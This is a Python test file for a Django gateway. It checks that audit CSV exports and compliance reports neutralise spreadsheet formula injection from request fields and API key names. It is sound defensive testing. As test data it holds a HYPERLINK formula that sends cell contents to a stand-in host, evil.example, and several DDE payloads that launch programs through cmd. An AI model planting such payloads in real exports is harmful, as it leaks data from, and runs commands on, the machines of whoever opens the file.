"""CSV exports and reports are safe to open: caller-chosen text never becomes a formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from asgiref.sync import sync_to_async
from django.utils import timezone
from rest_framework.test import APIClient

from apps.audit.reports import render_csv, report_build
from apps.audit.writebehind import audit_events
from apps.routing.writebehind import request_logs
from tests.routing import conftest as routing
from tests.routing.conftest import call

pytestmark = pytest.mark.django_db(transaction=True)

gateway = routing.gateway

MODEL = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'
USER = "@SUM(1+1)*cmd|' /C calc'!A0"
REQUEST_ID = "+cmd|' /C notepad'!A0"
OTHERS = ["-2+3+cmd", "\tcmd", "\r=1+1"]
# What spreadsheets read as the start of a formula (OWASP, CSV injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def strings_in(value) -> list[str]:
    if isinstance(value, dict):
        return [*map(str, value), *(s for v in value.values() for s in strings_in(v))]
    if isinstance(value, list):
        return [s for v in value for s in strings_in(v)]
    return [value] if isinstance(value, str) else []


def assert_no_formula(text: str) -> None:
    for cell in cells(text):
        assert not cell.startswith(FORMULA_TRIGGERS), cell
        if cell.startswith(("{", "[")):
            for inner in strings_in(json.loads(cell)):
                assert not inner.startswith(FORMULA_TRIGGERS), inner


@pytest.fixture
def hostile(gateway, user_factory):
    """Requests whose model and end user are formulas, through the data plane."""
    audit_events._take()
    request_logs._take()
    yield gateway
    audit_events._take()
    request_logs._take()


async def _send_hostile_requests(gw) -> None:
    ok = await call(
        "POST",
        "/v1/chat/completions",
        json={"model": "sim-fast", "user": USER, "messages": [{"role": "user", "content": "hi"}]},
        key=gw.key,
    )
    assert ok.status == 200
    missing = await call(
        "POST",
        "/v1/chat/completions",
        json={"model": MODEL, "user": USER, "messages": [{"role": "user", "content": "hi"}]},
        key=gw.key,
    )
    assert missing.status == 404
    await request_logs.flush()
    await audit_events.flush()


@sync_to_async
def _staff_client(user_factory) -> APIClient:
    client = APIClient()
    client.force_login(user_factory(username="auditor", is_staff=True, is_superuser=True))
    return client


@sync_to_async
def _download(client: APIClient, **params: str) -> str:
    response = client.get("/api/v1/audit/export/", params)
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


async def test_audit_csv_export_neutralises_formulas_from_real_requests(hostile, user_factory):
    await _send_hostile_requests(hostile)
    client = await _staff_client(user_factory)
    text = await _download(client, format="csv", event_type="gateway.request")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 2
    by_status = {json.loads(r["data"])["http_status"]: r for r in rows}
    assert by_status[404]["resource_id"] == "'" + MODEL
    assert json.loads(by_status[404]["data"])["requested_model"] == "'" + MODEL
    assert_no_formula(text)
    # JSON Lines stays verbatim: it is evidence, and its hashes must recompute.
    jsonl = await _download(client, format="jsonl", event_type="gateway.request")
    assert any(json.loads(line).get("resource_id") == MODEL for line in jsonl.splitlines()[:-1])


async def test_compliance_report_csv_neutralises_formulas_from_real_requests(hostile):
    await _send_hostile_requests(hostile)
    now = timezone.now()

    @sync_to_async
    def build() -> str:
        hostile.api_key.name = "=cmd|' /C calc'!A0"
        hostile.api_key.save(update_fields=["name"])
        report = report_build(
            tenant=hostile.tenant, since=now - timedelta(hours=1), until=now + timedelta(hours=1)
        )
        return render_csv(report).decode()

    text = await build()
    rows = list(csv.reader(io.StringIO(text)))
    assert ["'" + USER, "2"] in rows  # API usage by end user
    assert any(row and row[0] == "'=cmd|' /C calc'!A0" for row in rows)  # by key
    assert_no_formula(text)


def test_every_formula_trigger_is_neutralised_in_plain_and_json_cells():
    from apps.audit.csvsafe import csv_row

    values = [MODEL, USER, REQUEST_ID, *OTHERS, "plain", 7, -3, None]
    row = csv_row([*values, {"k": MODEL, "=key": [USER, {"deep": "\tx"}]}, [OTHERS[0]]])
    assert row[: len(values)] == [
        "'" + MODEL,
        "'" + USER,
        "'" + REQUEST_ID,
        *("'" + v for v in OTHERS),
        "plain",
        7,
        -3,  # numbers carry no formula
        None,
    ]
    assert json.loads(row[len(values)]) == {
        "k": "'" + MODEL,
        "'=key": ["'" + USER, {"deep": "'\tx"}],
    }
    assert json.loads(row[-1]) == ["'-2+3+cmd"]
